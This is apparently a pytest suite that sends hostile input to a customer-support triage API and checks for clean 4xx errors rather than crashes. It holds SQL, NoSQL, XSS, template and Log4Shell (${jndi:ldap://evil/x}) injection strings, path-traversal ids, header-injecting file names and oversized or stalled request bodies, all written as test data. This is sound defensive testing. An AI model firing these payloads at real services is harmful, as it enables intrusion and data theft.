"""Hostile input: every answer is a 2xx or a 4xx in the error shape, never a 5xx or a hang, on both databases.

Each case is one row of CASES: a request (path placeholders are filled from the module's ids) and the
statuses it may get. Add a row to cover a new attack."""

from __future__ import annotations

import json
import logging
import select
import socket
import time
from dataclasses import dataclass, field

import pytest
from fastapi.testclient import TestClient

from api.app import create_app
from api.inputs import MAX_ID
from tests.utils.api import AGENT, start
from tests.utils.server import served

STORE = {"Authorization": "Bearer demo-store-key"}
OK = (200, 201)
ANY = (200, 201, 400, 404, 409, 413, 415, 422)
PNG = bytes.fromhex("89504e470d0a1a0a0000000d4948445200000001000000010806000000")
MB = 1024 * 1024
TIMEOUT = 1.0  # the module's TRIAGE_BODY_TIMEOUT, short so that slow bodies are quick to test


@dataclass(frozen=True)
class Case:
    name: str
    path: str  # may name {cid}, {hid}, {mid}, {aid}, {fresh_hid}
    expect: tuple[int, ...] | int
    method: str = "POST"
    json: object = None
    content: bytes | None = None
    chunks: tuple[int, int] | None = None  # (count, size): a chunked body, without Content-Length
    files: dict | None = None
    params: dict | None = None
    headers: dict = field(default_factory=dict)
    auth: str = "customer"  # customer, agent, store or none


def message(name: str, text: str, expect) -> Case:
    return Case(name, "/v1/conversations/{cid}/messages", expect, json={"text": text})


def raw(name: str, path: str, body: bytes, expect, **kwargs) -> Case:
    return Case(name, path, expect, content=body, headers={"content-type": "application/json"}, **kwargs)


# fmt: off
MESSAGES = "/v1/conversations/{cid}/messages"
BLANK = ["", " ", "\n\t \n", "\x00", "\x00" * 500, "\u200b", "\u200c\u200d", "\u2060", "\ufeff", "\u202e", "\u200b \u200f\n",
         "\x01\x02\x1f\x7f", "\x85\x9f", "\u3000", "\u00a0\u2028\u2029", "\r\n\r\n", "\x00\u200b\x00 "]
INJECTIONS = ["'; DROP TABLE messages; --", "1' OR '1'='1", "<script>alert(1)</script>", "<img src=x onerror=alert(1)>",
              "{{7*7}} ${7*7} #{7*7}", "${jndi:ldap://evil/x}", "{% include '/etc/passwd' %}", "%s%s%s%n%x",
              "../../../../etc/passwd", "..\\..\\windows\\win.ini", "$where: function() { return true }",
              "\u202egnp.exe", "раураl refund please", "ｒｅｆｕｎｄ ｍｙ ｏｒｄｅｒ", "👩\u200d👩\u200d👧 where is my parcel",
              "z̷̡̛̰a̸̢͎l̶̗͝g̵̱̓o̶̜͠" * 20, "\u200fمرحبا، أين طلبي؟", "tab\there\nnewline", "a\x00b\x00c refund",
              "\uffff\ufffe noncharacters", "A" * 4000]
BAD_UUIDS = ["%00", "abc", "%27%3B%20DROP%20TABLE%20conversations%3B--", "..%2F..%2Fetc%2Fpasswd", "0" * 36,
             "x" * 5000, "%E2%80%AE", "%C0%AF", "%ED%A0%80", "1%20OR%201%3D1"]
BAD_NUMBERS = [str(2**70), "-1", "abc", "1e5", "%00", "0x10", "%EF%BC%91%EF%BC%92", str(2**63), str(MAX_ID + 1), " 1", "9" * 400]

CASES = [
    *(message(f"blank message {i}", text, 422) for i, text in enumerate(BLANK)),
    *(message(f"injection {i}", text, 200) for i, text in enumerate(INJECTIONS)),
    message("4,001 characters", "字" * 4001, 413),
    message("4,000 characters and NULs", "b" * 4000 + "\x00" * 100, 200),
    raw("escaped NUL alone", MESSAGES, b'{"text": "\\u0000"}', 422),
    raw("escaped NUL inside", MESSAGES, b'{"text": "a\\u0000b"}', 200),
    raw("escaped lone surrogate", MESSAGES, b'{"text": "lone \\ud800 half"}', 422),
    raw("escaped reversed pair", MESSAGES, b'{"text": "\\udfff\\udbff"}', 422),
    raw("invalid UTF-8 bytes", MESSAGES, b'{"text": "\xff\xfe\xfd"}', (400, 422)),
    raw("overlong UTF-8 slash", MESSAGES, b'{"text": "\xc0\xaf\xe0\x80\xaf"}', (400, 422)),
    raw("UTF-8 encoded surrogate", MESSAGES, b'{"text": "\xed\xa0\x80"}', (400, 422)),
    raw("UTF-16 body", MESSAGES, '{"text": "hello"}'.encode("utf-16"), ANY),
    raw("empty body", MESSAGES, b"", 422),
    raw("null body", MESSAGES, b"null", 422),
    raw("array body", MESSAGES, b"[]", 422),
    raw("string body", MESSAGES, b'"hello"', 422),
    raw("number text", MESSAGES, b'{"text": 5}', 422),
    raw("array text", MESSAGES, b'{"text": ["a"]}', 422),
    raw("operator object text", MESSAGES, b'{"text": {"$ne": null}}', 422),
    raw("boolean text", MESSAGES, b'{"text": true}', 422),
    raw("null text", MESSAGES, b'{"text": null}', 422),
    raw("NaN text", MESSAGES, b'{"text": NaN}', 422),
    raw("duplicate key, last blank", MESSAGES, b'{"text": "hi", "text": "\\u0000"}', 422),
    raw("truncated JSON", MESSAGES, b'{"text": "hi"', 422),
    raw("nested 30,000 deep", MESSAGES, b'{"text": ' + b"[" * 30000 + b"]" * 30000 + b"}", (400, 413, 422)),
    raw("huge integer", MESSAGES, b'{"text": ' + b"9" * 5000 + b"}", (400, 422)),
    raw("70 KB with Content-Length", MESSAGES, b'{"text": "' + b"x" * 70_000 + b'"}', 413),
    Case("30 MB chunked message", MESSAGES, 413, chunks=(480, 64 * 1024), headers={"content-type": "application/json"}),
    Case("30 MB chunked new conversation", "/v1/conversations", 413, chunks=(480, 64 * 1024), auth="none",
         headers={"content-type": "application/json"}),
    Case("text/plain JSON", MESSAGES, ANY, content=b'{"text": "hi"}', headers={"content-type": "text/plain"}),
    # New conversations: context is ignored unless trusted, and kept only in the shape the columns hold.
    Case("NUL in every field", "/v1/conversations", 201, auth="store",
         json={"locale": "es\x00", "channel": "web\x00", "context": {"customer_ref": "c\x00-1", "customer_name": "\x00Ana"}}),
    raw("infinite order value", "/v1/conversations", b'{"context": {"order_value": 1e400}}', 201, auth="store"),
    raw("NaN order value", "/v1/conversations", b'{"context": {"order_value": NaN}}', 201, auth="store"),
    *(Case(f"order value {v!r}", "/v1/conversations", 201, auth="store", json={"context": {"order_value": v}})
      for v in ("abc", [], {}, 2**70, -1, True, None)),
    Case("301-character customer_ref", "/v1/conversations", 201, auth="store", json={"context": {"customer_ref": "r" * 301}}),
    Case("operator customer_ref", "/v1/conversations", 201, auth="store", json={"context": {"customer_ref": {"$gt": ""}}}),
    Case("object customer_name", "/v1/conversations", 201, auth="store", json={"context": {"customer_name": {"a": [1]}}}),
    raw("context nested 900 deep", "/v1/conversations",
        b'{"context": {"a": ' + b"[" * 900 + b"]" * 900 + b'}, "signature": "00"}', 201, auth="none"),
    raw("signed surrogate context", "/v1/conversations", b'{"context": {"customer_ref": "\\ud800"}, "signature": "ab"}', 201,
        auth="none"),
    raw("trusted surrogate context", "/v1/conversations", b'{"context": {"customer_name": "A\\ud800"}}', 201, auth="store"),
    Case("non-ASCII signature", "/v1/conversations", 201, auth="none", json={"context": {"tier": "vip"}, "signature": "é" * 64}),
    Case("21-character locale", "/v1/conversations", 422, auth="none", json={"locale": "x" * 21}),
    Case("context is a string", "/v1/conversations", 422, auth="none", json={"context": "order_value=900"}),
    Case("body is an array", "/v1/conversations", 422, auth="none", json=[{"locale": "es"}]),
    # Path ids: malformed ones are 404 before any query.
    *(Case(f"conversation id {i}", f"/v1/conversations/{bad}", 404, method="GET") for i, bad in enumerate(BAD_UUIDS)),
    *(Case(f"message to id {i}", f"/v1/conversations/{bad}/messages", 404, json={"text": "hi"}) for i, bad in enumerate(BAD_UUIDS[:4])),
    *(Case(f"case id {i}", f"/v1/handoffs/{bad}", 404, method="GET", auth="agent") for i, bad in enumerate(BAD_UUIDS)),
    Case("claim a NUL case", "/v1/handoffs/%00/claim", 404, auth="agent"),
    Case("reply to a NUL case", "/v1/handoffs/%00/reply", 404, auth="agent", json={"text": "hi"}),
    Case("resolve a NUL case", "/v1/handoffs/%00/resolve", 404, auth="agent"),
    Case("agent reads NUL conversation file", "/v1/conversations/%00/attachments/{aid}", 404, method="GET", auth="agent"),
    *(Case(f"attachment id {i}", f"/v1/conversations/{{cid}}/attachments/{bad}", 404, method="GET")
      for i, bad in enumerate(["%00", "..%2F..%2Fetc%2Fpasswd", "..%5C..%5Cwin.ini", "x" * 33, "0" * 32])),
    *(Case(f"feedback message id {bad[:12]}", f"/v1/conversations/{{cid}}/messages/{bad}/feedback", 404, json={"rating": "up"})
      for bad in [*BAD_NUMBERS, str(MAX_ID)]),
    Case("feedback on the customer's own message", "/v1/conversations/{cid}/messages/{mid}/feedback", 404, json={"rating": "up"}),
    *(Case(f"after={bad[:12]}", "/v1/conversations/{cid}/messages", 422, method="GET", params={"after": bad})
      for bad in [str(2**70), "-1", "abc", "\x00", "1e5"]),
    Case("after the largest id", "/v1/conversations/{cid}/messages", 200, method="GET", params={"after": str(MAX_ID)}),
    Case("events after 2**70", "/v1/conversations/{cid}/events", 422, method="GET", params={"after": str(2**70)}),
    Case("handoff status injection", "/v1/handoffs", 422, method="GET", auth="agent", params={"status": "open' OR 1=1--"}),
    Case("erase a NUL customer", "/v1/customers/%00", 200, method="DELETE", auth="store"),
    Case("erase an injected customer", "/v1/customers/%27%20OR%201%3D1--", 200, method="DELETE", auth="store"),
    Case("token with NUL", "/v1/conversations/{cid}", 404, method="GET", auth="none", params={"access_token": "\x00"}),
    Case("10,000-character token", "/v1/conversations/{cid}", 404, method="GET", auth="none",
         headers={"Authorization": "Bearer " + "t" * 10_000}),
    # CSAT and agents: text is cleaned before it is stored.
    Case("CSAT comment of NULs", "/v1/conversations/{cid}/csat", 200, json={"score": 3, "comment": "\x00" * 100 + "ok"}),
    Case("CSAT score 2**70", "/v1/conversations/{cid}/csat", 422, json={"score": 2**70}),
    Case("CSAT score 5.5", "/v1/conversations/{cid}/csat", 422, json={"score": 5.5}),
    Case("CSAT comment 2,001", "/v1/conversations/{cid}/csat", 422, json={"score": 1, "comment": "c" * 2001}),
    Case("agent reply of NULs", "/v1/handoffs/{hid}/reply", 422, auth="agent", json={"text": "\x00\u200b"}),
    Case("agent reply with NUL", "/v1/handoffs/{hid}/reply", 200, auth="agent", json={"text": "Hi\x00 <b>there</b>"}),
    Case("outcome of NULs", "/v1/handoffs/{fresh_hid}/resolve", 200, auth="agent", json={"outcome": "\x00done\x00"}),
    Case("outcome 201 characters", "/v1/handoffs/{fresh_hid}/resolve", 422, auth="agent", json={"outcome": "o" * 201}),
    # Uploads: the name is shown, never used as a path; the size is counted as it streams.
    *(Case(f"file name {i}", "/v1/conversations/{cid}/attachments", 201, files={"file": (name, PNG, "image/png")})
      for i, name in enumerate(["../../etc/passwd", "\x00.png", "a\r\nContent-Type: text/html", "\u202egnp.exe", "..",
                                "C:\\Windows\\system32\\x.png", "<script>.png"])),
    Case("5,000-character file name", "/v1/conversations/{cid}/attachments", (201, 400), files={"file": ("n" * 5000, PNG, "image/png")}),
    Case("6 MB upload with Content-Length", "/v1/conversations/{cid}/attachments", 413,
         files={"file": ("big.png", b"\0" * 6 * MB, "image/png")}),
    Case("20 MB chunked upload", "/v1/conversations/{cid}/attachments", 413, chunks=(320, 64 * 1024),
         headers={"content-type": "multipart/form-data; boundary=x"}),
    Case("upload declared as HTML", "/v1/conversations/{cid}/attachments", 415,
         files={"file": ("x.html", b"<script>", "text/html")}),
]
# fmt: on


@pytest.fixture(scope="module", params=["sqlite", "postgresql"])
def hostile_settings(request, kb_settings, tmp_path_factory):
    """One database per module, with limits high enough for a hundred requests a minute."""
    url = (
        f"sqlite:///{tmp_path_factory.mktemp('hostile') / 'triage.db'}"
        if request.param == "sqlite"
        else request.getfixturevalue("postgres").new_database()
    )
    return kb_settings.model_copy(
        update={
            "database_url": url,
            "log_level": "WARNING",
            "rate_per_ip": 100_000,
            "rate_per_conversation": 100_000,
            "rate_reads_per_ip": 100_000,
            "rate_uploads_per_ip": 100_000,
            "key_failures_per_minute": 100_000,  # malformed ids are wrong keys too; here they must reach the checks
            "body_timeout": TIMEOUT,
        }
    )


@pytest.fixture(scope="module")
def api(hostile_settings, bot):
    with TestClient(create_app(hostile_settings, bot)) as client:
        yield client, _ids(client)


@pytest.fixture(scope="module")
def server(hostile_settings, bot):
    """The app behind a real uvicorn, for what only a socket shows: streaming and slow bodies."""
    with served(create_app(hostile_settings, bot)) as running:
        yield running.port


def _ids(client) -> dict:
    cid, auth = start(client)
    asked = client.post(f"/v1/conversations/{cid}/messages", json={"text": "How do I reset my password?"}, headers=auth).json()
    upload = client.post(f"/v1/conversations/{cid}/attachments", files={"file": ("p.png", PNG, "image/png")}, headers=auth)
    return {
        "cid": cid,
        "auth": auth,
        "mid": asked["message_id"],
        "aid": upload.json()["attachment"]["url"].rsplit("/", 1)[-1],
        "hid": _new_case(client),
    }


def _new_case(client) -> str:
    """A fresh open case: a high-value order hands off on the first message."""
    created = client.post("/v1/conversations", json={"context": {"order_value": 900}}, headers=STORE).json()
    auth = {"Authorization": f"Bearer {created['token']}"}
    reply = client.post(
        f"/v1/conversations/{created['id']}/messages", json={"text": "我可以用支付宝付款吗？"}, headers=auth
    ).json()
    assert reply["reply"]["handoff"], reply
    cases = client.get("/v1/handoffs", headers=AGENT).json()["items"]
    return next(c["id"] for c in cases if c["conversation_id"] == created["id"])


def _chunks(count: int, size: int):
    for _ in range(count):
        yield b"{" * size


@pytest.mark.parametrize("case", CASES, ids=lambda c: c.name)
def test_hostile_input_gets_a_2xx_or_a_4xx_in_the_error_shape(api, case, caplog):
    client, ids = api
    caplog.set_level(logging.WARNING)
    fill = {**ids, "fresh_hid": _new_case(client) if "{fresh_hid}" in case.path else ""}
    headers = {**{"customer": ids["auth"], "agent": AGENT, "store": STORE, "none": {}}[case.auth], **case.headers}
    content = _chunks(*case.chunks) if case.chunks else case.content
    if case.json is not None:  # escaped, as a browser would send lone surrogates (httpx cannot encode them raw)
        content, headers = json.dumps(case.json).encode(), {"content-type": "application/json", **headers}
    answer = client.request(
        case.method, case.path.format(**fill), content=content, files=case.files, params=case.params, headers=headers
    )
    expected = case.expect if isinstance(case.expect, tuple) else (case.expect,)
    assert answer.status_code in expected, answer.text[:300]
    if answer.status_code >= 400:
        error = answer.json()["error"]
        assert set(error) == {"code", "message"} and error["message"]
    assert not [r for r in caplog.records if r.levelno >= logging.ERROR], "an error was logged"


def test_enough_hostile_cases():
    assert len(CASES) >= 100


def test_a_blank_message_opens_no_case_and_is_not_stored(api):
    client, _ = api
    cid, auth = start(client)
    for text in BLANK:
        assert client.post(f"/v1/conversations/{cid}/messages", json={"text": text}, headers=auth).status_code == 422
    assert client.get(f"/v1/conversations/{cid}", headers=auth).json()["messages"] == []
    cases = client.get("/v1/handoffs", params={"status": "all"}, headers=AGENT).json()["items"]
    assert cid not in [c["conversation_id"] for c in cases]


def test_nul_and_controls_are_removed_before_storing_newlines_kept(api):
    client, _ = api
    cid, auth = start(client)
    posted = client.post(f"/v1/conversations/{cid}/messages", json={"text": "line\x00 one\r\nline\x07 two\t!"}, headers=auth)
    assert posted.status_code == 200
    stored = client.get(f"/v1/conversations/{cid}", headers=auth).json()["messages"][0]["text"]
    assert stored == "line one\nline two\t!"


def test_trusted_context_is_stored_in_the_shape_the_columns_hold(api):
    client, _ = api
    context = {"customer_ref": "ref\x00-1", "customer_name": {"x": 1}, "order_value": 900, "tier": "t" * 201}
    created = client.post("/v1/conversations", json={"context": context}, headers=STORE).json()
    auth = {"Authorization": f"Bearer {created['token']}"}
    client.post(f"/v1/conversations/{created['id']}/messages", json={"text": "我可以用支付宝付款吗？"}, headers=auth)
    item = next(i for i in client.get("/v1/handoffs", headers=AGENT).json()["items"] if i["conversation_id"] == created["id"])
    case = client.get(f"/v1/handoffs/{item['id']}", headers=AGENT).json()["case"]
    assert (
        case["context"]["customer_ref"] == "ref-1"
        and not case["context"].get("tier")
        and not case["context"].get("customer_name")
    )
    assert client.delete("/v1/customers/ref%00-1", headers=STORE).json()["conversations"] == 1


def test_uploaded_file_name_is_its_last_segment_on_one_line(api):
    client, ids = api
    url, multipart = f"/v1/conversations/{ids['cid']}/attachments", {"content-type": "multipart/form-data; boundary=x"}
    for name, shown in [
        (b"../../etc/passwd", "passwd"),
        (b"a\tb\x00\x1b.png", "a b.png"),
        (b"..", "file"),
        (b"\xe2\x80\x8b", "file"),
    ]:
        body = b'--x\r\nContent-Disposition: form-data; name="file"; filename="' + name + b'"\r\nContent-Type: image/png\r\n\r\n'
        posted = client.post(url, content=body + PNG + b"\r\n--x--\r\n", headers={**ids["auth"], **multipart})
        assert posted.json()["attachment"]["name"] == shown


@pytest.mark.parametrize(
    ("given", "echoed"), [("req-9.a_B", True), ("a" * 64, True), ("a" * 65, False), ("<script>", False), ("a b", False)]
)
def test_request_id_is_echoed_only_when_a_short_safe_token(api, given, echoed):
    client, _ = api
    answered = client.get("/healthz", headers={"X-Request-ID": given}).headers["X-Request-ID"]
    assert (answered == given) is echoed and len(answered) <= 64


def test_nothing_the_customer_wrote_is_logged_at_error(api, caplog):
    client, ids = api
    caplog.set_level(logging.WARNING)
    secret = "secret-canary-\x00-text"
    for path in (f"/v1/conversations/{ids['cid']}/messages", "/v1/conversations/%00/messages"):
        client.post(path, json={"text": secret}, headers=ids["auth"])
    logged = "\n".join(r.getMessage() + (r.exc_text or "") for r in caplog.records if r.levelno >= logging.ERROR)
    assert "secret-canary" not in logged and json.dumps(secret)[1:-1] not in logged


def _head(path: str, **headers: str) -> bytes:
    lines = [f"POST {path} HTTP/1.1", "Host: test", "Content-Type: application/json", *(f"{k}: {v}" for k, v in headers.items())]
    return ("\r\n".join(lines) + "\r\n\r\n").encode()


def _status(sock: socket.socket) -> int:
    return int(sock.recv(65536).split(b" ", 2)[1])


def test_a_chunked_30_mb_body_is_refused_while_it_streams(server):
    """413 arrives after about the limit, not after 30 MB (measured: well under 1 MB sent)."""
    chunk = b"10000\r\n" + b"{" * 0x10000 + b"\r\n"
    with socket.create_connection(("127.0.0.1", server), timeout=10) as sock:
        sock.sendall(_head("/v1/conversations", **{"Transfer-Encoding": "chunked"}))
        sent = 0
        while sent < 30 * MB and not select.select([sock], [], [], 0)[0]:
            try:
                sock.sendall(chunk)
            except OSError:  # the server closed after answering
                break
            sent += len(chunk)
        assert _status(sock) == 413
    assert sent < 4 * MB


@pytest.mark.parametrize("pause", [None, TIMEOUT / 4], ids=["stalled", "trickling"])
def test_a_slow_body_is_refused_after_the_timeout(server, pause):
    """A body that stops, or drips a byte at a time, answers 408 after TRIAGE_BODY_TIMEOUT."""
    started = time.monotonic()
    with socket.create_connection(("127.0.0.1", server), timeout=TIMEOUT + 5) as sock:
        sock.sendall(_head("/v1/conversations", **{"Content-Length": "100"}) + b'{"locale"')
        while pause and not select.select([sock], [], [], pause)[0]:
            sock.sendall(b" ")
        assert _status(sock) == 408
    assert TIMEOUT <= time.monotonic() - started < TIMEOUT + 2
